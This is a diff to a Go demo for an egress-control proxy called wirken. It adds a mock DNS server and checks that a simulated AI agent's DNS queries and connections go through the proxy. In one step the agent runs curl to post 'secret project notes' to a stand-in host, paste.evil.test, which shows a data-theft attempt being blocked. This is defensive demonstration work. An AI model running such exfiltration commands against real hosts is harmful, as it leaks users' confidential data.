@@ -31,6 +31,8 @@ import (
 	"sync/atomic"
 	"syscall"
 	"time"
+
+	"github.com/wirken/wirken/demo/zone"
 )
 
 func main() {
@@ -53,6 +55,7 @@ type demo struct {
 	bin, dir, config, cgroup, pinDir string
 	daemon                           *exec.Cmd
 	logs                             bytes.Buffer
+	stopDNS                          func()
 }
 
 func say(format string, a ...any) { fmt.Printf("\n==> "+format+"\n", a...) }
@@ -120,6 +123,12 @@ func (d *demo) run(bin string) error {
 	if err := ca.serve("127.0.0.3:443", "paste.evil.test", http.NotFoundHandler(), &pasteConns); err != nil {
 		return err
 	}
+	names, err := zone.Start(map[string]string{"api.llm.test": "127.0.0.2", "paste.evil.test": "127.0.0.3"})
+	if err != nil {
+		return err
+	}
+	d.stopDNS = names.Close
+	say("This network's DNS server (%s) knows both names; wirken's resolver forwards to it.", names.Addr)
 
 	policy := `version = 1
 
@@ -156,9 +165,11 @@ checkpoint_interval = 0.2
 root = %q
 [bpf]
 pin_dir = %q
+[dns]
+upstreams = [%q]
 [log]
 format = "json"
-`, d.cgroup, d.pinDir)
+`, d.cgroup, d.pinDir, names.Addr)
 	for name, data := range map[string][]byte{"policy.toml": []byte(policy), "wirken.toml": []byte(config), "mock-ca.pem": ca.pem} {
 		if err := os.WriteFile(filepath.Join(d.dir, name), data, 0o644); err != nil {
 			return err
@@ -186,7 +197,7 @@ format = "json"
 
 	say("The agent (plain curl, no key, no proxy settings) asks the LLM API a question:")
 	body := `{"model":"mock-gpt","messages":[{"role":"user","content":"Say hello."}]}`
-	out, err = d.agent("curl", "-sS", "--max-time", "20", "--resolve", "api.llm.test:443:127.0.0.2", "--fail-with-body",
+	out, err = d.agent("curl", "-sS", "--max-time", "20", "--fail-with-body",
 		"-H", "Content-Type: application/json", "-d", body, "https://api.llm.test/v1/chat/completions")
 	if err != nil {
 		return fmt.Errorf("the agent's call to the LLM API failed: %w", err)
@@ -201,6 +212,12 @@ format = "json"
 	}
 	fmt.Printf("    the model says: %q\n", answer.Choices[0].Message.Content)
 	fmt.Println("    wirken injected the key on the way; the mock API checked it.")
+	// The agent's resolver is whatever /etc/resolv.conf names; only the kernel's steering can
+	// have brought its query to wirken, and only wirken knows this DNS server's address.
+	if !names.Asked("api.llm.test") {
+		return errors.New("the DNS server was never asked for api.llm.test: the agent's DNS did not go through wirken")
+	}
+	fmt.Println("    the agent's DNS went through wirken: the kernel steered its query for api.llm.test to wirken's resolver, which asked this network's DNS server (api.llm.test is 127.0.0.2) and remembered the answer; the proxy serves only names the agent resolved so.")
 
 	say("Does the agent hold the key anywhere? Its environment:")
 	env, err := d.agent("env")
@@ -213,6 +230,17 @@ format = "json"
 	fmt.Println("    no key in the agent's environment; it trusts wirken's CA through SSL_CERT_FILE and friends.")
 
 	say("The agent tries to upload data to https://paste.evil.test:")
+	out, err = d.agent("curl", "-sS", "--max-time", "20", "-d", "secret project notes", "https://paste.evil.test/upload")
+	if err == nil {
+		return fmt.Errorf("the upload succeeded: %q", out)
+	}
+	if names.Asked("paste.evil.test") {
+		return errors.New("wirken forwarded the agent's query for paste.evil.test, which no rule names")
+	}
+	fmt.Printf("    refused: curl says %q\n", lastLine(out))
+	fmt.Println("    wirken's resolver answered NXDOMAIN (no rule names paste.evil.test) and never asked the DNS server.")
+
+	say("The agent knows the paste site's address anyway and connects to 127.0.0.3 directly:")
 	out, err = d.agent("curl", "-sS", "--max-time", "20", "--resolve", "paste.evil.test:443:127.0.0.3",
 		"-d", "secret project notes", "https://paste.evil.test/upload")
 	if err == nil {
@@ -225,7 +253,7 @@ format = "json"
 	fmt.Println("    the paste site received no connection at all.")
 
 	say("The agent tries the LLM API with a path the rule does not allow (GET /admin):")
-	out, _ = d.agent("curl", "-sS", "--max-time", "20", "--resolve", "api.llm.test:443:127.0.0.2", "-i", "https://api.llm.test/admin")
+	out, _ = d.agent("curl", "-sS", "--max-time", "20", "-i", "https://api.llm.test/admin")
 	if !strings.Contains(out, "403") {
 		return fmt.Errorf("want a 403 from wirken, got %q", out)
 	}
@@ -237,12 +265,12 @@ format = "json"
 	say("The audit log, as `wirken audit tail` shows it:")
 	// The daemon seals a checkpoint every 0.2 s here; give it one.
 	time.Sleep(500 * time.Millisecond)
-	out, err = d.wirken("", "audit", "tail", "-n", "20")
+	out, err = d.wirken("", "audit", "tail", "-n", "40")
 	if err != nil {
 		return err
 	}
 	fmt.Print(indent(out))
-	for _, want := range []string{"credential.use", "conn.deny", "request.deny"} {
+	for _, want := range []string{"dns.query", "credential.use", "dns.deny", "conn.deny", "request.deny"} {
 		if !strings.Contains(out, want) {
 			return fmt.Errorf("the audit log has no %s record", want)
 		}
@@ -310,6 +338,9 @@ func (d *demo) cleanup() {
 	}
 	if d.dir != "" {
 		os.RemoveAll(d.dir)
+	}
+	if d.stopDNS != nil {
+		d.stopDNS()
 	}
 }
 
